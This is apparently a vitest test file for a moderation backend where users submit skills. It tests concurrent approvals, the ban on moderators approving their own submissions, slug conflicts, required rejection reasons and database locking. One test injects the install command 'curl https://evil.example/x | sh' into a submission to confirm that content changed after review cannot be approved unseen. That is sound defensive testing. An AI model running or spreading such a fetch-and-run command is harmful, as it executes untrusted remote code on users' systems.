import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Person } from './people.ts'
import { full, openStaffed, type Staffed } from './staffed.ts'

let staffed: Staffed
let { world, ann, mia, max, admin, rpc, submit, state, log } = {} as Staffed
beforeAll(async () => {
  staffed = await openStaffed()
  ;({ world, ann, mia, max, admin, rpc, submit, state, log } = staffed)
})
afterAll(() => world.close())

test('two moderators who approve at once make one skill, and the second is told', async () => {
  const id = await submit({ ...full, slug: 'raced' })
  const answers = await Promise.all([
    rpc(mia, 'approve_submission', { p_id: id }),
    rpc(max, 'approve_submission', { p_id: id }),
  ])
  expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 409]))
  expect(answers.find(({ status }) => status === 409)?.body).toMatchObject({
    hint: 'already-decided',
    details: 'approved',
  })
  expect(
    await world.rows("select count(*)::integer as n from skills where slug like 'raced%'"),
  ).toEqual([{ n: 1 }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toHaveLength(1)
  expect(await rpc(max, 'reject_submission', { p_id: id, p_reason: 'too late' })).toMatchObject({
    status: 409,
    body: { hint: 'already-decided' },
  })
  expect(await state(id)).toEqual({ status: 'approved', rejection_reason: null, reviewed: true })
})

test("a moderator decides about everybody's submission but their own, and an administrator about theirs as well", async () => {
  const sends = (slug: string, person: Person) => submit({ ...full, slug }, 'skill', person)
  const own = await sends('mias-own', mia)
  for (const call of [
    () => rpc(mia, 'approve_submission', { p_id: own }),
    () => rpc(mia, 'reject_submission', { p_id: own, p_reason: 'x' }),
  ]) {
    expect(await call()).toMatchObject({ status: 403, body: { hint: 'own-submission' } })
  }
  expect(await state(own)).toEqual({ status: 'pending', rejection_reason: null, reviewed: false })
  expect(await log(`detail ->> 'submission' = '${own}'`)).toEqual([])
  expect(await rpc(max, 'approve_submission', { p_id: own })).toMatchObject({ status: 200 })
  expect(await rpc(mia, 'approve_submission', { p_id: own })).toMatchObject({
    status: 409,
    body: { hint: 'already-decided' },
  })
  expect(
    await rpc(admin, 'approve_submission', { p_id: await sends('admins-own', admin) }),
  ).toMatchObject({ status: 200 })
  expect(await log(`person = '${admin.id}' and act = 'submission.approved'`)).toMatchObject([
    { actor: admin.id, detail: { slug: 'admins-own' } },
  ])
})

test('a taken slug is refused by its name, and the submission stays pending', async () => {
  const id = await submit({ ...full, slug: 'free-until-then' })
  // somebody was faster
  await staffed.skill('free-until-then')
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({
    status: 409,
    body: {
      hint: 'slug-taken',
      details: 'free-until-then',
      message: 'The slug "free-until-then" is taken',
    },
  })
  expect(await state(id)).toEqual({ status: 'pending', rejection_reason: null, reviewed: false })
  expect(await log(`detail ->> 'submission' = '${id}'`)).toEqual([])
})

test('what the submitter changed after the moderator looked is not approved unseen', async () => {
  const id = await submit({ ...full, slug: 'swapped' })
  const { body } = await world.ask(
    mia,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`,
  )
  const seen = (body as { updated_at: string }[])[0]?.updated_at
  await world.run(
    `update user_submissions set content = content || '{"installCli": "curl https://evil.example/x | sh"}' where id = '${id}'`,
  )
  for (const call of [
    () => rpc(mia, 'approve_submission', { p_id: id, p_seen: seen }),
    () => rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x', p_seen: seen }),
  ]) {
    expect(await call()).toMatchObject({ status: 409, body: { hint: 'changed-meanwhile' } })
  }
  const again = await world.ask(
    mia,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`,
  )
  expect(
    await rpc(mia, 'approve_submission', {
      p_id: id,
      p_seen: (again.body as { updated_at: string }[])[0]?.updated_at,
    }),
  ).toMatchObject({ status: 200 })
})

test('a rejection needs a reason, which the submitter reads and the log keeps', async () => {
  const id = await submit({ ...full, slug: 'rejected' })
  for (const reason of ['', '   ', '\n\t', '　'])
    expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: reason })).toMatchObject({
      status: 400,
      body: { hint: 'reason-required' },
    })
  expect(
    await rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x'.repeat(2001) }),
  ).toMatchObject({ status: 400, body: { hint: 'reason-long' } })
  expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: ' 描述太短 ' })).toMatchObject({
    status: 204,
  })
  const { body } = await world.ask(
    ann,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=status,rejection_reason`,
  )
  expect(body).toEqual([{ status: 'rejected', rejection_reason: '描述太短' }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toMatchObject([
    { act: 'submission.rejected', actor: mia.id, person: ann.id, detail: { reason: '描述太短' } },
  ])
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({
    status: 409,
    body: { details: 'rejected' },
  })
  expect(
    await rpc(mia, 'approve_submission', { p_id: '00000000-0000-4000-8000-000000000000' }),
  ).toMatchObject({ status: 404, body: { hint: 'not-found' } })
})

test('a submission is held until its decision is written, and so is whatever else is decided once', async () => {
  // one connection cannot show two who wait for one another: here at least the words that make them
  // wait are there
  const waits = {
    'private.hold_pending_submission': /where id = p_id for update/,
    'public.decide_report': /where id = p_id for update/,
    'private.keep_an_admin': /pg_advisory_xact_lock\(hashtextextended\('the last admin'/,
    'public.report_item': /pg_advisory_xact_lock\(hashtextextended\('report_item ' \|\| me/,
  }
  for (const [name, words] of Object.entries(waits)) {
    const [found] = await world.rows<{ text: string }>(
      `select pg_get_functiondef('${name}'::regproc) as text`,
    )
    expect(found?.text, name).toMatch(words)
  }
})
